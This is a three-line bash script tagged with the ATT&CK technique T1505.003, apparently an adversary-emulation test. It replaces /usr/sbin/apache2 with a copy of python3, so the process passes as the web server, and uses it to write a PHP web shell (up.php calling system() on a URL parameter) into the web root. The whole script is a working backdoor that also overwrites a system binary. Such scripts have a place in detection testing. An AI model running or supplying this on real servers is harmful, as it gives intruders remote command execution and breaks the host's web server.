#!/bin/bash
# T1505.003: A server's process writes a page that runs orders.
cp $(readlink -f /usr/bin/python3) /usr/sbin/apache2; chown www-data /var/www/html; /usr/sbin/apache2 -c 'open("/var/www/html/up.php","w").write("<?php system($_GET[0]); ?>")'
